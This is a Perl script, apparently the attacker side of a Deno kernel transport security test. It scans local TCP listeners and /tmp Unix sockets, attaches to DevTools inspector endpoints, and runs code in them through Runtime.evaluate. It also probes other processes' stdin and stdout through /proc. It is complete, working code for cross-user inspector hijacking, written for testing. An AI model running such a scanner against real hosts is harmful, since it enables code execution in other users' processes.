#!/usr/bin/perl
# Attack for core/kernel/kernel_transport_test.ts, run as another local user: finds every TCP
# listener (/proc/net/tcp, tcp6) and Unix socket under /tmp, asks each for Deno's /json/list,
# attaches to any inspector whose target URL matches ARGV[0] (a regex: the kernel's entry and
# the test's decoy, so other processes on the machine are never touched) and tries to run code.
# Then tries to write CDP into the stdin of each pid in ARGV[1..]. Prints one line per success:
# "PWNED <where> <reply>" / "FD <pid> <fd>", then "DONE <number of endpoints tried>".
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 pack_sockaddr_un);

my ($target, @pids) = @ARGV;
my $tried = 0;
$| = 1;

sub timed_read {
  my ($s, $want) = @_;
  my $buf = "";
  my $rin = "";
  vec($rin, fileno($s), 1) = 1;
  while (length($buf) < 65536) {
    last unless select(my $r = $rin, undef, undef, 1.5) > 0;
    my $n = sysread($s, my $chunk, 65536);
    last unless $n;
    $buf .= $chunk;
    last if $want && $buf =~ $want;
  }
  return $buf;
}

sub ws_frame {
  my ($text) = @_;
  my $len = length $text;
  my $mask = pack("N", int(rand(2**32)));
  my $head = $len < 126 ? pack("CC", 0x81, 0x80 | $len) : pack("CCn", 0x81, 0x80 | 126, $len);
  my @m = unpack("C4", $mask);
  my $i = 0;
  my $body = join("", map { chr(ord($_) ^ $m[$i++ % 4]) } split(//, $text));
  return $head . $mask . $body;
}

# Speaks HTTP on a connected socket; attaches to matching inspector targets.
sub attack {
  my ($where, $connect) = @_;
  $tried++;
  my $s = $connect->() or return;
  syswrite($s, "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
  my $list = timed_read($s, qr/\]\s*$/);
  close $s;
  while ($list =~ /"url"\s*:\s*"([^"]*)"[^}]*?"webSocketDebuggerUrl"\s*:\s*"ws:\/\/[^\/"]+(\/[^"]+)"/g) {
    my ($url, $path) = ($1, $2);
    next unless $url =~ /$target/;
    my $w = $connect->() or next;
    syswrite($w, "GET $path HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" .
      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n");
    my $head = timed_read($w, qr/\r\n\r\n/);
    next unless $head =~ /^HTTP\/1\.1 101/;
    syswrite($w, ws_frame('{"id":7,"method":"Runtime.evaluate","params":{"expression":' .
      '"globalThis.__pwned = \"pwned\"; String(Deno.pid)"}}'));
    my $reply = timed_read($w, qr/"id":7/);
    print "PWNED $where $1\n" if $reply =~ /"id":7.*?"value":"(\d+)"/s;
    close $w;
  }
}

for my $file ("/proc/net/tcp", "/proc/net/tcp6") {
  open(my $fh, "<", $file) or next;
  <$fh>;
  while (my $line = <$fh>) {
    my @f = split " ", $line;
    next unless $f[3] eq "0A"; # LISTEN
    my ($ip, $port) = split /:/, $f[1];
    $port = hex $port;
    my $v6 = length($ip) > 8;
    attack("tcp:$port", sub {
      my $s;
      if ($v6) {
        socket($s, AF_INET6, SOCK_STREAM, 0) or return;
        connect($s, pack_sockaddr_in6($port, inet_pton(AF_INET6, "::1"))) or return;
      } else {
        socket($s, AF_INET, SOCK_STREAM, 0) or return;
        connect($s, sockaddr_in($port, inet_aton("127.0.0.1"))) or return;
      }
      return $s;
    });
  }
}

if (open(my $fh, "<", "/proc/net/unix")) {
  <$fh>;
  while (my $line = <$fh>) {
    my @f = split " ", $line;
    my $path = $f[7] // "";
    next unless $path =~ m{^/tmp/};
    attack("unix:$path", sub {
      socket(my $s, AF_UNIX, SOCK_STREAM, 0) or return;
      connect($s, pack_sockaddr_un($path)) or return;
      return $s;
    });
  }
}

for my $pid (@pids) {
  for my $fd (0, 1) {
    $tried++;
    my $mode = $fd ? "<" : ">";
    if (open(my $fh, $mode, "/proc/$pid/fd/$fd")) {
      print "FD $pid $fd\n";
      close $fh;
    }
  }
}
print "DONE $tried\n";
